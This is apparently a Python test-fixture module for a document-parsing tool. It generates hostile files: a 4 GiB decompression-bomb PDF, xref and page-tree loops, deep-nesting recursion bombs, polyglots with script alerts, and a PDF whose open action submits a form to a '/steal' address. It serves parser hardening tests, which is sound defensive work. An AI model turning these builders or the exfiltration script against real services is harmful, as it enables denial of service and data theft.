"""Hostile input files, built from plain bytes (and pypdf/fpdf2) at test time; nothing binary is committed.

Each builder returns the file's bytes. `HOSTILE` maps a kind to (file name, builder); every kind
in it must be refused by parse with a typed DocumentError. `javascript_pdf` is apart: a letter
whose PDF carries an /OpenAction script is read for its text (the script is never run).
Also here: running the CLI on a file with its peak memory, and finding a live server's memory,
shared by the tests and `bench/hostile.py`.
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from fpdf import FPDF
from pypdf import PdfWriter
from pypdf.actions import JavaScript

LETTER = (
    "Acme Health Plan\nDate: March 3, 2025\nMember ID: ZX1234567\nClaim number: CLM-55501\n\n"
    "Dear Member,\nWe reviewed the request for Hemgenix (etranacogene dezaparvovec). The request is denied "
    "because it is not medically necessary: the records do not show factor IX activity of 2% or less.\n"
    "You may appeal within 180 days.\nSincerely,\nUtilization Management"
)
_MIB = 1 << 20


def text_pdf(text: str = LETTER, pages: int = 1) -> bytes:
    """A well-formed PDF whose pages carry `text` as a real text layer."""
    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    for _ in range(pages):
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def raw_pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF from object bodies (object n is objects[n-1]) with a correct classic xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d " % (len(objects) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def letter_content(text: str = LETTER) -> bytes:
    """A page content stream that shows `text` line by line in Helvetica (font /F1)."""
    lines = [line.replace("\\", "").replace("(", "").replace(")", "") for line in text.split("\n")]
    shown = b"".join(b"(%s) Tj T* " % line.encode("latin-1") for line in lines)
    return b"BT /F1 11 Tf 14 TL 72 740 Td " + shown + b"ET"


def _page_objects(content: bytes, content_dict: bytes = b"") -> list[bytes]:
    """Catalog, Pages, one Page, its content stream and a font."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d %s >>\nstream\n" % (len(content), content_dict) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def zeros_deflate(prefix: bytes, mebibytes: int) -> bytes:
    """A zlib stream that inflates to `prefix` then `mebibytes` MiB of zero bytes, built without inflating.

    A full flush byte-aligns the output and resets the window, so the block for each MiB of
    zeros is identical and can be repeated. Each zero byte leaves Adler-32's sum a unchanged and
    adds a to its sum b.
    """
    co = zlib.compressobj(9)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    block = co.compress(b"\0" * _MIB) + co.flush(zlib.Z_FULL_FLUSH)
    adler = zlib.adler32(prefix)
    a, b = adler & 0xFFFF, adler >> 16
    b = (b + mebibytes * _MIB * a) % 65521
    return head + block * mebibytes + b"\x03\x00" + ((b << 16) | a).to_bytes(4, "big")


def bomb_pdf(mebibytes: int = 4096) -> bytes:
    """A letter page whose FlateDecode content stream inflates to `mebibytes` MiB (4 GiB by default).

    NUL is white space in PDF syntax, so a small `mebibytes` gives a valid, readable page.
    """
    return raw_pdf(_page_objects(zeros_deflate(letter_content(), mebibytes), b"/Filter /FlateDecode"))


def huge_length_pdf() -> bytes:
    """A content stream declaring a /Length of a terabyte and no xref table to recover from."""
    objects = _page_objects(letter_content())
    objects[3] = objects[3].replace(b"/Length %d" % len(letter_content()), b"/Length 1099511627776")
    return raw_pdf(objects)


def xref_loop_pdf() -> bytes:
    """Two xref sections whose trailers' /Prev point at each other (an endless xref chain)."""
    base = raw_pdf(_page_objects(letter_content()))
    first = base.rindex(b"\nxref\n") + 1
    looped = base[:first] + base[first:].replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 0000000000")
    second = len(looped)
    looped = looped.replace(b"/Prev 0000000000", b"/Prev %010d" % second)
    update = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\n" % first
    update += b"startxref\n%d\n%%%%EOF\n" % second
    return looped + update


def pages_loop_pdf() -> bytes:
    """A page tree whose /Pages node lists itself (through a child) as a kid."""
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    ])


def deep_outline_pdf(depth: int = 20000) -> bytes:
    """A catalog whose outline nests `depth` levels deep (each item's /First is the next)."""
    objects = _page_objects(letter_content())
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageMode /UseOutlines >>"
    first = len(objects) + 1
    objects.append(b"<< /Type /Outlines /First %d 0 R /Last %d 0 R /Count %d >>" % (first + 1, first + 1, depth))
    for level in range(depth):
        number = first + 1 + level
        child = b" /First %d 0 R /Last %d 0 R /Count 1" % (number + 1, number + 1) if level < depth - 1 else b""
        objects.append(b"<< /Title (Level %d) /Parent %d 0 R%s /Dest [3 0 R /Fit] >>" % (level, number - 1, child))
    return raw_pdf(objects)


def deep_array_pdf(depth: int = 100000) -> bytes:
    """A page resource that is an array nested `depth` levels deep (a recursion bomb for parsers)."""
    objects = _page_objects(letter_content())
    objects[2] = objects[2].replace(b"/MediaBox [0 0 612 792]", b"/MediaBox [0 0 612 792] /Junk " + b"[" * depth + b"]" * depth)
    return raw_pdf(objects)


def many_pages_pdf(pages: int = 5000) -> bytes:
    """A PDF of `pages` pages sharing one small content stream."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
    content = letter_content()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>"
    return raw_pdf(objects + [page] * pages)


def encrypted_pdf() -> bytes:
    """The letter, encrypted with a user password (AES-256)."""
    writer = PdfWriter(clone_from=io.BytesIO(text_pdf()))
    writer.encrypt(user_password="s3cret", owner_password="0wner", algorithm="AES-256")
    return _written(writer)


def javascript_pdf() -> bytes:
    """The letter with an /OpenAction JavaScript action (a real text layer; the script is never run)."""
    writer = PdfWriter(clone_from=io.BytesIO(text_pdf()))
    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');"))
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_with_pdf() -> bytes:
    """A ZIP archive whose first member, stored uncompressed, is a PDF (%PDF- within the first KiB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("letter.pdf", text_pdf())
        archive.writestr("readme.html", "<html><script>alert(1)</script></html>")
    return out.getvalue()


def pdf_with_zip() -> bytes:
    """A PDF with a ZIP archive appended after %%EOF: a valid PDF and a valid ZIP at once."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    return text_pdf() + out.getvalue()


def html_with_pdf() -> bytes:
    """An HTML page that hides a PDF in a comment near its start."""
    return b"<!DOCTYPE html><html><body><script>alert(1)</script><!--\n" + text_pdf() + b"\n--></body></html>"


def png_bytes() -> bytes:
    """A valid 16x16 grey PNG image."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = b"".join(b"\0" + b"\x80" * 16 for _ in range(16))
    header = struct.pack(">IIBBBBB", 16, 16, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "decompression_bomb": ("bomb.pdf", bomb_pdf),
    "huge_length": ("length.pdf", huge_length_pdf),
    "xref_prev_loop": ("xref.pdf", xref_loop_pdf),
    "pages_loop": ("pages.pdf", pages_loop_pdf),
    "deep_outline": ("outline.pdf", deep_outline_pdf),
    "deep_array": ("array.pdf", deep_array_pdf),
    "5000_pages": ("pages5000.pdf", many_pages_pdf),
    "encrypted": ("locked.pdf", encrypted_pdf),
    "zip_pdf_polyglot": ("letter.pdf", zip_with_pdf),
    "pdf_zip_polyglot": ("letter.pdf", pdf_with_zip),
    "html_pdf_polyglot": ("letter.pdf", html_with_pdf),
    "zero_bytes": ("empty.pdf", lambda: b""),
    "png_named_pdf": ("scan.pdf", png_bytes),
    "text_named_pdf": ("letter.pdf", lambda: LETTER.encode()),
    "pdf_named_txt": ("letter.txt", text_pdf),
}


@dataclass(frozen=True)
class CliRun:
    """One `appealgen extract FILE --json` run: exit code, stdout, stderr, wall seconds, peak RSS."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float


def run_extract_cli(path: Path, timeout_s: float = 120.0) -> CliRun:
    """Run the CLI in a subprocess; the peak RSS (from wait4) covers it and its parse child."""
    start = time.perf_counter()
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        proc = subprocess.Popen([sys.executable, "-m", "appealgen", "extract", str(path), "--json"],
                                stdout=out, stderr=err, env={**os.environ, "PYTHONWARNINGS": "ignore"})
        deadline = start + timeout_s
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.perf_counter() > deadline:
                proc.kill()
                pid, status, usage = os.wait4(proc.pid, 0)
                break
            time.sleep(0.02)
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return CliRun(proc.returncode, out.read().decode(), err.read().decode(),
                      time.perf_counter() - start, usage.ru_maxrss / 1024)


def server_pid(port: int) -> int | None:
    """The pid of the `appealgen serve ... --port PORT` process, found through /proc."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"serve" in argv and str(port).encode() in argv and any(b"appealgen" in a for a in argv):
            return int(entry.name)
    return None


def rss_mb(pid: int, field: str = "VmRSS") -> float:
    """A process's resident memory (VmRSS) or its peak (VmHWM), in MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) / 1024
    raise ValueError(f"{field} not in /proc/{pid}/status")
